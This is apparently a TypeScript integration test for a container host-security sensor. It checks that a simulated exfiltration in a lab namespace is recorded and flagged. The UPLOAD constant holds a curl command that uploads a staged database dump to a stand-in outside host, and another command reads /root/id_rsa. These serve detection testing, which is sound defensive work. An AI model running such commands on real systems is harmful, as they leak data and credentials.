/**
 * The host sensor against a real Docker in a network namespace of its own: a container uploads, and a hunt through what the
 * sensor wrote must name it, with its whole command line and the bytes that arrived.
 */
import { spawn } from 'node:child_process';
import { cpSync, existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { HuntResult } from '../src/model/hunt-result.js';
import { hunt } from '../src/pipeline.js';
import { KernelSettings } from '../src/sense/kernel-settings.js';
import { type SensorStatus, startSensors } from '../src/sense/sense.js';
import { whySkip } from './live-lab.js';
import { root } from './recorded.js';
import { SenseLab } from './sense-lab.js';

const whyNot = await whySkip('the host sensor', ['bpftrace', 'curl', 'pgrep']);

const UPLOAD_BYTES = 8 * 1024 * 1024;
/** Longer than any one text the kernel side can tell, with everything in it that breaks careless formats. */
const LONG_ARGUMENT = `note: ${'n'.repeat(700)} "quoted" \\x00 back\\slash\n{"t":"up"}`;
const UPLOAD = ['curl', '-s', '-w', LONG_ARGUMENT, '-T', '/tmp/db.dump', 'http://198.51.100.10/drop/db.dump'];
const SHORT_LIFE =
  'echo none > /root/id_rsa; echo brief > /tmp/brief; cat /root/id_rsa; /bin/missing; cd /tmp; echo more > left';

interface Row {
  [key: string]: unknown;
}

describe.skipIf(whyNot !== null)('a container that uploads', () => {
  let own: SenseLab;
  let lab: SenseLab['lab'];
  let folder: string;
  let container: string;
  let brief: string;
  let accounting: string | null;
  let running: SensorStatus[];
  let status: SensorStatus[];
  let result: HuntResult;
  let rows: Record<'commands' | 'files' | 'sent', Row[]>;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
    own = await SenseLab.open();
    lab = own.lab;
    const settings = new KernelSettings(lab.hostNamespace);
    const sensors = await startSensors({
      folder,
      engine: lab.engine,
      netns: lab.hostNamespace,
      accounting: true,
    });
    try {
      running = sensors.status();
      accounting = await settings.read('net/netfilter/nf_conntrack_acct');
      container = await own.run('billing');
      await lab.engine.exec(container, ['sh', '-c', `head -c ${UPLOAD_BYTES} /dev/urandom > /tmp/db.dump`]);
      await lab.engine.exec(container, UPLOAD);
      brief = await own.run('brief', ['/bin/sh', '-c', SHORT_LIFE]);
      await sleep(3500);
    } finally {
      await sensors.stop();
      status = sensors.status();
    }
    accounting += ` then ${await settings.read('net/netfilter/nf_conntrack_acct')}`;
    if (process.env.STOWAWAY_KEEP_SENSE) cpSync(folder, process.env.STOWAWAY_KEEP_SENSE, { recursive: true });
    result = await hunt([folder], {
      async inspect(store) {
        rows = {
          commands: await store.rows(
            `SELECT activity, process_name, cmd_line, cmd_line_complete AS complete, container_uid AS container FROM process_activity ORDER BY time`,
          ),
          files: await store.rows(
            `SELECT activity, file_path AS path, bytes_written AS bytes, container_uid AS container FROM file_activity`,
          ),
          sent: await store.rows(
            `SELECT entity_id AS entity, c.bytes_out AS bytes FROM connection AS c WHERE NOT is_dst_inside AND dst_port = 80`,
          ),
        };
      },
    });
  });

  afterAll(async () => {
    await own.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('every sensor that was asked for looks, and loses nothing', () => {
    expect(Object.fromEntries(running.map(({ name, state }) => [name, state]))).toEqual({
      engine: 'on',
      'flow-events': 'on',
      'flow-poll': 'on',
      activity: 'on',
      firewall: 'off',
    });
    expect(status.map(({ name, losses }) => [name, losses])).toEqual(
      ['engine', 'flow-events', 'flow-poll', 'activity', 'firewall'].map((name) => [name, {}]),
    );
  });

  test('accounting is switched on, and put back', () => {
    expect(accounting).toBe('1 then 0');
  });

  test('every file is its owner’s alone, and every line is read', () => {
    for (const name of readdirSync(folder))
      expect(`${name} ${(statSync(join(folder, name)).mode & 0o777).toString(8)}`).toBe(`${name} 600`);
    expect(result.deadLetters.total).toBe(0);
    expect(result.problems.filter((problem) => !problem.where.endsWith('sense.json'))).toEqual([]);
  });

  test('the finding names the container', () => {
    const open = result.report.findings.filter((finding) => finding.status === 'open');
    expect(open.map((finding) => `${finding.technique} ${finding.entity.name}`)).toEqual(['T1567 billing']);
  });

  test('the command line is complete', () => {
    const [curl] = rows.commands.filter((row) => row.container === container && row.process_name === 'curl');
    expect(curl).toMatchObject({ activity: 'launch', complete: 1 });
    expect(curl!.cmd_line).toContain('n'.repeat(700));
    expect(curl!.cmd_line).toContain(' -T /tmp/db.dump http://198.51.100.10/drop/db.dump');
  });

  test('bytes agree with what arrived', () => {
    expect(own.received).toBe(UPLOAD_BYTES);
    const sent = rows.sent.filter((row) => String(row.entity).includes('billing'));
    const bytes = sent.reduce((sum, row) => sum + Number(row.bytes), 0);
    expect(bytes / own.received).toBeGreaterThan(0.98);
    expect(bytes / own.received).toBeLessThan(1.02);
  });

  test('the staged file is told with its bytes', () => {
    const staged = rows.files.filter((row) => row.path === '/tmp/db.dump' && row.activity === 'write');
    expect(staged.reduce((sum, row) => sum + Number(row.bytes), 0)).toBe(UPLOAD_BYTES);
    expect(new Set(staged.map((row) => row.container))).toEqual(new Set([container]));
  });

  test('no act is booked to another container', () => {
    const own = rows.commands.filter((row) => row.container === brief && row.activity === 'launch');
    expect(own.map((row) => row.cmd_line)).toEqual([`sh -c '${SHORT_LIFE}'`, 'cat /root/id_rsa']);
  });

  test('a container that lives a moment is described, and its acts are its own', () => {
    const inspected = readFileSync(join(folder, 'inspect.ndjson'), 'utf8');
    expect(inspected).toContain(brief);
    const read = rows.files
      .filter((row) => row.container === brief)
      .map((row) => `${row.activity} ${row.path}`);
    expect(read).toContain('open_write /tmp/brief');
    expect(read).toContain('read /root/id_rsa');
    expect(rows.commands.filter((row) => row.container === brief)).toContainEqual(
      expect.objectContaining({ activity: 'launch_failed', cmd_line: '' }),
    );
  });

  test('sense.json tells of the run', () => {
    const { runs } = JSON.parse(readFileSync(join(folder, 'sense.json'), 'utf8'));
    expect(runs).toHaveLength(1);
    expect(runs[0]).toMatchObject({ netns: lab.hostNamespace, stopped: expect.any(String) });
  });
});

describe.skipIf(whyNot !== null)('where audit stands in for bpftrace', () => {
  let own: SenseLab;
  let folder: string;
  let audit: string[];
  const settings = () =>
    own.inNetns('auditctl', '-s').match(/^(enabled|backlog_limit|backlog_wait_time) \d+/gm)!;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
    own = await SenseLab.open();
    audit = settings();
  });

  afterAll(async () => {
    await own.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('the upload is found, its command is told, and nothing of ours stays in the kernel', async () => {
    const { lab } = own;
    const sensors = await startSensors({
      folder,
      engine: lab.engine,
      netns: lab.hostNamespace,
      accounting: true,
      activity: 'audit',
    });
    const running = sensors.status().find(({ name }) => name === 'activity');
    let container: string;
    try {
      container = await own.run('billing');
      await lab.engine.exec(container, ['sh', '-c', `head -c ${UPLOAD_BYTES} /dev/urandom > /tmp/db.dump`]);
      await lab.engine.exec(container, UPLOAD);
      await lab.engine.exec(container, ['sh', '-c', '/bin/missing; sleep 1']);
      await sleep(2000);
    } finally {
      await sensors.stop();
    }
    expect(running).toMatchObject({
      state: 'degraded',
      reason: expect.stringMatching(/^files are not seen: .*it was asked for$/),
    });
    expect(own.inNetns('auditctl', '-l')).not.toContain('stowaway');
    expect(settings()).toEqual(audit);
    // Of short-lived processes, the host's too, audit may not tell whose they were; no record may be lost.
    const { losses } = sensors.status().find(({ name }) => name === 'activity')!;
    expect(Object.keys(losses).filter((kind) => !kind.startsWith('acts of processes'))).toEqual([]);

    let rows: Row[] = [];
    const result = await hunt([folder], {
      async inspect(store) {
        rows = await store.rows(
          `SELECT activity, process_name AS what, cmd_line AS text, container_uid AS container, cmd_line_complete AS complete FROM process_activity`,
        );
      },
    });
    expect(result.deadLetters.total).toBe(0);
    const open = result.report.findings.filter((finding) => finding.status === 'open');
    expect(open.map((finding) => `${finding.technique} ${finding.entity.name}`)).toEqual(['T1567 billing']);
    const inside = rows.filter((row) => row.container === container);
    expect(inside).toContainEqual(expect.objectContaining({ activity: 'launch_failed', what: 'sh' }));
    expect(inside).toContainEqual(expect.objectContaining({ activity: 'connect', what: 'curl' }));
    const [curl] = inside.filter((row) => row.activity === 'launch' && row.what === 'curl');
    expect(curl).toMatchObject({ complete: 1 });
    expect(curl!.text).toContain('n'.repeat(700));
    expect(curl!.text).toContain(' -T /tmp/db.dump http://198.51.100.10/drop/db.dump');
  });
});

describe.skipIf(whyNot !== null)('when something breaks', () => {
  let own: SenseLab;
  let lab: SenseLab['lab'];
  let folder: string;

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'swsense-logs-'));
    own = await SenseLab.open();
    lab = own.lab;
  });

  afterAll(async () => {
    await own.close();
    await rm(folder, { recursive: true, force: true });
  });

  test('an engine that restarts leaves a gap, and is watched again', async () => {
    const options = {
      folder: join(folder, 'restart'),
      engine: lab.engine,
      netns: lab.hostNamespace,
      activity: false as const,
    };
    const sensors = await startSensors(options);
    try {
      await lab.stopEngine();
      await until(() => sensors.status()[0]!.state === 'off');
      await lab.startEngine();
      await until(() => sensors.status()[0]!.state === 'degraded');
      const later = await own.run('later');
      await until(
        () => sensors.status().length > 0 && readAll(options.folder, 'inspect.ndjson').includes(later),
      );
    } finally {
      await sensors.stop();
    }
    const [engine, flows] = sensors.status();
    expect(engine!.gaps).toEqual([
      {
        from: expect.any(String),
        to: expect.any(String),
        reason: expect.stringContaining('the engine went away'),
      },
    ]);
    expect(flows).toMatchObject({
      state: 'degraded',
      reason: expect.stringContaining('byte counters are off'),
    });
  });

  test('a sensor that is killed leaves no process, and what it changed is put back', async () => {
    const counters = () => new KernelSettings(lab.hostNamespace).read('net/netfilter/nf_conntrack_acct');
    const argv = [
      'sense',
      join(folder, 'crash'),
      '--netns',
      lab.hostNamespace,
      '--engine',
      lab.engine.socketPath,
    ];
    const main = join(root, 'dist', 'cli', 'main.js');
    const sensor = spawn(process.execPath, [main, ...argv, '--accounting', '--no-activity'], {
      stdio: 'ignore',
    });
    await until(() => readAll(folder, 'crash/sense.json') !== '');
    expect(await counters()).toBe('1');
    const children = own.inNetns('pgrep', '-P', String(sensor.pid)).trim().split('\n');
    expect(children.length).toBeGreaterThan(1);
    sensor.kill('SIGKILL');
    await until(() => children.every(isGone));
    expect(await counters()).toBe('1');
    expect(own.inNetns(process.execPath, main, 'sense', '--restore')).toContain('nf_conntrack_acct = 0');
    expect(await counters()).toBe('0');
  });
});

async function until(isTrue: () => boolean): Promise<void> {
  for (let left = 300; !isTrue(); left -= 1) {
    if (left === 0) throw new Error(`never: ${isTrue}`);
    await sleep(100);
  }
}

function readAll(folder: string, name: string): string {
  const path = join(folder, name);
  return existsSync(path) ? readFileSync(path, 'utf8') : '';
}

/** True when there is no such process any more, or only its exit code. */
function isGone(pid: string): boolean {
  return !existsSync(`/proc/${pid}`) || / Z /.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
}
